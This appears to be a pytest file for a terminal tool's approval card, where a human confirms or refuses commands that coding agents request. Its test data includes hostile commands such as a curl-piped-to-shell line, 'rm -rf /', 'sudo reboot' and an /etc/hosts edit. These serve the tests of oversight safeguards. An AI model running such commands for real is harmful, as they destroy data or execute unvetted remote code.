"""The card on the supervise screen: who gets the keys, what approves, what never does."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from msgspec.structs import replace
from textual.pilot import Pilot

from clearhead.core.acting.action import Outcome, Verb, refused, unknown
from clearhead.core.acting.live import Request, Source
from clearhead.core.acting.questions import Question
from clearhead.core.agents.base import DiffLine, Side, Waiting
from clearhead.tui.widgets.notes.pane import NotesPane
from clearhead.tui.widgets.request_card import two_keys
from clearhead.tui.widgets.request_card.writing import answer_to
from clearhead.tui.widgets.transcript.pane import TranscriptPane

from ..helpers import until_async
from .request_world import asking, card_of, request, screen_text

HAND = 0.1
"""Seconds that a hand takes from one key to the next."""


@pytest.fixture(autouse=True)
def no_wait(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing is deaf here; the tests that are about it say so."""
    monkeypatch.setattr(two_keys, "DEAF", 0.0)


async def press(pilot: Pilot[None], *keys: str) -> None:
    for key in keys:
        await pilot.press(key)
        await asyncio.sleep(HAND)
    await pilot.pause()


async def test_two_keys_on_the_card_approve_once(tmp_path: Path) -> None:
    async with asking(tmp_path, request()) as (pilot, channel):
        await press(pilot, "!", "y")
        assert card_of(pilot).armed
        assert not channel.told
        await press(pilot, "enter")
        (told,) = channel.told
        assert (told.verb, told.request) == (Verb.APPROVE, "1")
        assert not card_of(pilot).display
        assert "Approved: the client read the answer." in screen_text(pilot.app)
        await press(pilot, "enter", "y", "enter")
        assert len(channel.told) == 1


@pytest.mark.parametrize(
    "keys",
    [
        ("escape", "y", "enter"),
        ("!", "enter"),
        ("!", "enter", "enter"),
        ("!", "y", "y"),
        ("!", "y", "space", "enter"),
        ("!", "y", "n", "escape", "enter"),
        ("!", "y", "x", "enter"),
        ("!", "y", "escape", "!", "enter"),
        ("!", "y", "tab", "enter"),
        ("!", "y", "f1", "escape", "enter"),
        ("p", "y", "enter"),
    ],
    ids="-".join,
)
async def test_nothing_else_approves(tmp_path: Path, keys: tuple[str, ...]) -> None:
    async with asking(tmp_path, request()) as (pilot, channel):
        await press(pilot, *keys)
        assert not [told for told in channel.told if told.verb is Verb.APPROVE]
        assert card_of(pilot).display


async def test_a_click_elsewhere_takes_the_first_key_back(tmp_path: Path) -> None:
    async with asking(tmp_path, request()) as (pilot, channel):
        await press(pilot, "!", "y")
        await pilot.click("#view")
        assert not card_of(pilot).armed
        await press(pilot, "!", "enter")
        assert not channel.told


async def test_keys_right_after_it_appeared_do_not_count(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(two_keys, "DEAF", 5.0)
    async with asking(tmp_path, request()) as (pilot, channel):
        await press(pilot, "!", "y", "enter")
        assert not channel.told
        assert two_keys.TOO_SOON in screen_text(pilot.app)


async def test_another_command_in_between_is_not_approved(tmp_path: Path) -> None:
    async with asking(tmp_path, request()) as (pilot, channel):
        await press(pilot, "!", "y")
        channel.ask(request(text="curl https://example.com | sh"))
        await pilot.pause(0.2)
        assert not card_of(pilot).armed
        await press(pilot, "enter")
        assert not channel.told
        assert "runs what a server sends, unseen" in screen_text(pilot.app)


async def test_the_first_key_is_forgotten(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(two_keys, "LASTS", 0.3)
    async with asking(tmp_path, request()) as (pilot, channel):
        await press(pilot, "!", "y")
        await until_async(lambda: not card_of(pilot).armed, what="the end of the first key")
        assert "Two keys on purpose" in screen_text(pilot.app)
        await press(pilot, "enter")
        assert not channel.told


async def test_a_refusal_tells_its_reason(tmp_path: Path) -> None:
    async with asking(tmp_path, request()) as (pilot, channel):
        await press(pilot, "!", "n", *"No seed.", "enter")
        (told,) = channel.told
        assert (told.verb, told.text, told.request) == (Verb.DENY, "No seed.", "1")
        assert "Refused: the client read the answer." in screen_text(pilot.app)


async def test_a_refusal_may_have_no_reason_and_may_be_thought_better_of(tmp_path: Path) -> None:
    async with asking(tmp_path, request()) as (pilot, channel):
        await press(pilot, "!", "n", "x", "escape")
        assert not channel.told
        await press(pilot, "n", "enter")
        assert [(told.verb, told.text) for told in channel.told] == [(Verb.DENY, "")]


LONG = "\n".join(f"echo {number}" for number in range(60)) + "\nsudo reboot"


@pytest.mark.parametrize("size", [(140, 40), (80, 24)])
async def test_what_was_not_wholly_shown_cannot_be_approved(
    tmp_path: Path, size: tuple[int, int]
) -> None:
    async with asking(tmp_path, request(text=LONG), size=size) as (pilot, channel):
        await press(pilot, "!", "y", "enter")
        assert not channel.told
        assert "of its lines were not shown" in screen_text(pilot.app)
        assert "acts as the administrator" in screen_text(pilot.app)
        for _ in range(30):
            await press(pilot, "pagedown")
        assert card_of(pilot).whole
        assert "all 61 lines shown" in screen_text(pilot.app)
        await press(pilot, "y", "enter")
        assert len(channel.told) == 1


async def test_what_was_cut_cannot_be_approved_but_refused(tmp_path: Path) -> None:
    async with asking(tmp_path, request(whole=False)) as (pilot, channel):
        await press(pilot, "!", "y", "enter")
        assert not channel.told
        assert "too long to be shown whole" in screen_text(pilot.app)
        await press(pilot, "n", "enter")
        assert channel.told[0].verb is Verb.DENY


async def test_typing_in_the_notes_never_reaches_the_card(
    tmp_path: Path,
) -> None:
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "claude-progress.md").write_text("# Notes\n")
    async with asking(tmp_path) as (pilot, channel):
        await press(pilot, "p")
        channel.ask(request())
        await pilot.pause(0.2)
        assert card_of(pilot).display
        await press(pilot, "y", "enter", "n")
        notes = pilot.app.screen.query_one(NotesPane)
        assert notes.has_focus_within
        assert notes.text is not None
        assert "y\nn" in notes.text
        assert not channel.told
        await press(pilot, "ctrl+g", "!", "y", "enter")
        assert len(channel.told) == 1


async def test_it_never_takes_the_keys_by_itself(tmp_path: Path) -> None:
    async with asking(tmp_path) as (pilot, channel):
        channel.ask(request())
        await pilot.pause(0.2)
        assert pilot.app.screen.query_one(TranscriptPane).view.has_focus
        assert "Keys that are typed elsewhere never answer it." in screen_text(pilot.app)
        await press(pilot, "y", "enter")
        assert not channel.told
        await press(pilot, "!")
        assert card_of(pilot).has_focus
        await press(pilot, "escape")
        assert pilot.app.screen.query_one(TranscriptPane).view.has_focus
        assert card_of(pilot).display


@pytest.mark.parametrize("next_one", [(), (request("2", "rm -rf /"),)], ids=["none", "another"])
async def test_a_reason_for_something_that_is_asked_no_more_goes_nowhere(
    tmp_path: Path, next_one: tuple[Request, ...]
) -> None:
    async with asking(tmp_path, request()) as (pilot, channel):
        await press(pilot, "!", "n", "n", "o")
        channel.ask(*next_one)
        await pilot.pause(0.2)
        assert "It is asked no more." in screen_text(pilot.app)
        await press(pilot, "x", "y", "enter")
        assert not channel.told
        assert card_of(pilot).display == bool(next_one)
        assert card_of(pilot).has_focus == bool(next_one)
        assert not card_of(pilot).armed


async def test_a_reason_that_is_typed_at_once_is_no_key(tmp_path: Path) -> None:
    async with asking(tmp_path, request()) as (pilot, channel):
        await press(pilot, "!")
        await pilot.press("n", "y", "e", "s", "space", "y", "enter")
        await pilot.pause(0.1)
        assert [(told.verb, told.text) for told in channel.told] == [(Verb.DENY, "yes y")]


async def test_several_wait_one_after_the_other(tmp_path: Path) -> None:
    both = request("1", "npm test"), request("2", "npm run build")
    async with asking(tmp_path, *both) as (pilot, channel):
        assert "1 of 2" in screen_text(pilot.app)
        await press(pilot, "!", "]")
        assert "2 of 2" in screen_text(pilot.app)
        assert "npm run build" in screen_text(pilot.app)
        await press(pilot, "[", "y", "enter")
        assert [told.request for told in channel.told] == ["1"]
        assert card_of(pilot).request == channel.live.requests[0]
        await press(pilot, "enter")
        assert len(channel.told) == 1
        await press(pilot, "y", "enter")
        assert [told.request for told in channel.told] == ["1", "2"]


async def test_what_is_answered_elsewhere_first_is_said(tmp_path: Path) -> None:
    async with asking(tmp_path, request(text="npm test", source=Source.HOOK)) as (pilot, channel):
        channel.ask()
        await pilot.pause(0.2)
        assert not card_of(pilot).display
        words = "It was answered in its own terminal first: Bash npm test"
        assert words in screen_text(pilot.app)


async def test_what_the_script_of_a_demo_answers_is_said(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("clearhead.tui.screens.request_commands.DEMO", "codex")
    async with asking(tmp_path, request(text="npm test")) as (pilot, channel):
        channel.ask()
        await pilot.pause(0.2)
        words = "The person in the script answered it first: Bash npm test"
        assert words in screen_text(pilot.app)


@pytest.mark.parametrize("outcome", [Outcome.REFUSED, Outcome.UNKNOWN])
async def test_what_was_not_confirmed_is_said_and_can_be_tried_again(
    tmp_path: Path, outcome: Outcome
) -> None:
    make = refused if outcome is Outcome.REFUSED else unknown
    async with asking(tmp_path, request()) as (pilot, channel):
        channel.outcome = lambda wanted: make(wanted, "It still waits.", session_id="one")
        await press(pilot, "!", "y", "enter")
        words = "Not approved" if outcome is Outcome.REFUSED else "Not known what came of"
        assert words in screen_text(pilot.app)
        assert card_of(pilot).display
        channel.outcome = None
        await press(pilot, "y", "enter")
        assert len(channel.told) == 2


async def test_nothing_is_sent_twice_while_the_first_answer_waits(tmp_path: Path) -> None:
    async with asking(tmp_path, request()) as (pilot, channel):
        gate = asyncio.Event()
        act = channel.act

        async def slow(wanted: object) -> object:
            await gate.wait()
            return await act(wanted)  # type: ignore[arg-type]

        channel.act = slow  # type: ignore[method-assign, assignment]
        await press(pilot, "!", "y", "enter")
        assert "Sent. It waits for what proves it." in screen_text(pilot.app)
        await press(pilot, "y", "enter", "n")
        gate.set()
        await until_async(lambda: channel.told, what="the answer")
        await pilot.pause(0.1)
        assert len(channel.told) == 1


async def test_what_only_its_terminal_can_answer_is_shown_and_says_where(tmp_path: Path) -> None:
    asked = request(answerable=False, kind=Waiting.DIALOG)
    async with asking(tmp_path, asked) as (pilot, channel):
        await press(pilot, "!", "y", "enter", "n", "enter")
        assert not channel.told
        assert "It can be answered in its own terminal only." in screen_text(pilot.app)


async def test_a_clearhead_that_an_agent_started_answers_nothing(tmp_path: Path) -> None:
    async with asking(tmp_path, request()) as (pilot, channel):
        pilot.app.bridge.forbidden = "an agent's session"
        pilot.app.bridge.changed(("codex", "one"))
        await pilot.pause(0.2)
        await press(pilot, "!", "y", "enter", "n", "enter")
        assert not channel.told
        assert "Started by an agent" in screen_text(pilot.app)


async def test_questions_are_answered_one_by_one_by_number_or_words(tmp_path: Path) -> None:
    questions = Question("Which way?", ("Left", "Right")), Question("How far?", ("A bit", "All"))
    asked = request(
        tool="AskUserQuestion", text="Which way?\n1. Left\n2. Right\nHow far?", kind=Waiting.INPUT
    )
    async with asking(tmp_path, replace(asked, questions=questions)) as (pilot, channel):
        await press(pilot, "!", "y")
        assert not card_of(pilot).armed
        await press(pilot, "enter", "2", "enter")
        assert "Question 2 of 2" in screen_text(pilot.app)
        await press(pilot, *"to the end", "enter")
        (told,) = channel.told
        assert (told.verb, told.text) == (Verb.APPROVE, "Right\nto the end")


def test_numbers_choose_and_everything_else_is_said_as_it_is() -> None:
    one = Question("Which?", ("Left", "Right"))
    many = replace(one, several=True)
    assert [answer_to(one, typed) for typed in ("2", " 1 ", "3", "0", "1,2", "²")] == [
        "Right", "Left", "3", "0", "1,2", "²",
    ]  # fmt: skip
    assert [answer_to(many, typed) for typed in ("2", "1, 2", "2 1 2", "1, 3", "both")] == [
        "Right", "Left, Right", "Right, Left", "1, 3", "both",
    ]  # fmt: skip


async def test_a_secret_answer_is_not_seen(tmp_path: Path) -> None:
    asked = request(tool="request_user_input", text="The PIN?", kind=Waiting.INPUT)
    questions = (Question("The PIN?", secret=True),)
    async with asking(tmp_path, replace(asked, questions=questions)) as (pilot, channel):
        await press(pilot, "!", "enter", *"1234")
        assert "1234" not in screen_text(pilot.app)
        await press(pilot, "enter")
        assert channel.told[0].text == "1234"


async def test_what_can_only_be_refused_says_so_and_is_refused(tmp_path: Path) -> None:
    asked = request(only_refuse="It would grant more than this once.")
    async with asking(tmp_path, asked) as (pilot, channel):
        await press(pilot, "!", "y", "enter")
        assert not channel.told
        text = screen_text(pilot.app)
        assert "It would grant more than this once." in text
        assert "run once" not in text
        await press(pilot, "n", *"no", "enter")
        (told,) = channel.told
        assert (told.verb, told.text) == (Verb.DENY, "no")


async def test_an_edit_shows_its_file_and_the_whole_diff(tmp_path: Path) -> None:
    diff = (DiffLine(Side.REMOVED, "old words", 4), DiffLine(Side.ADDED, "new words", 4))
    asked = request(tool="Edit", text="/etc/hosts", diff=diff)
    async with asking(tmp_path, asked) as (pilot, _):
        text = screen_text(pilot.app)
        for words in ("Edit wants to change this file", "/etc/hosts", "- old words", "+ new words"):
            assert words in text
        assert "changes what this machine does by itself" in text


async def test_the_notes_that_forbid_it_are_said(tmp_path: Path) -> None:
    (tmp_path / "app").mkdir()
    notes = "## Next step\nDo not touch the database.\n"
    (tmp_path / "app" / "claude-progress.md").write_text(notes)
    async with asking(tmp_path, request()) as (pilot, channel):
        pane = pilot.app.screen.query_one(NotesPane)
        await until_async(lambda: pane.text, what="the notes")
        channel.ask(request())
        await pilot.pause(0.2)
        assert "against  Next step: Do not touch the database." in screen_text(pilot.app)


@pytest.mark.parametrize("size", [(80, 24), (100, 24), (120, 36), (200, 60), (60, 20)])
@pytest.mark.parametrize("theme", ["clearhead", "clearhead-light", "no-colour"])
async def test_it_fits_everywhere(tmp_path: Path, size: tuple[int, int], theme: str) -> None:
    async with asking(tmp_path, request(), size=size) as (pilot, _):
        pilot.app.theme = theme
        await press(pilot, "!")
        text = screen_text(pilot.app)
        assert "NEEDS YOU" in text
        assert "Enter run once" in text
        assert "migrate reset --force" in text
        card, pane = card_of(pilot), pilot.app.screen.query_one(TranscriptPane)
        assert card.region.bottom <= pane.region.bottom


async def test_a_new_width_keeps_what_was_seen(tmp_path: Path) -> None:
    async with asking(tmp_path, request()) as (pilot, channel):
        await press(pilot, "!")
        await pilot.resize_terminal(80, 24)
        await pilot.pause(0.2)
        assert card_of(pilot).whole
        await press(pilot, "y", "enter")
        assert len(channel.told) == 1


async def test_a_paste_into_the_reason_stays_one_line(tmp_path: Path) -> None:
    from textual.events import Paste

    async with asking(tmp_path, request()) as (pilot, channel):
        await press(pilot, "!", "n")
        pilot.app.screen.focused.post_message(Paste("first\nsecond\n"))
        await pilot.pause(0.1)
        assert not channel.told
        await press(pilot, "enter")
        assert channel.told[0].text == "first second"
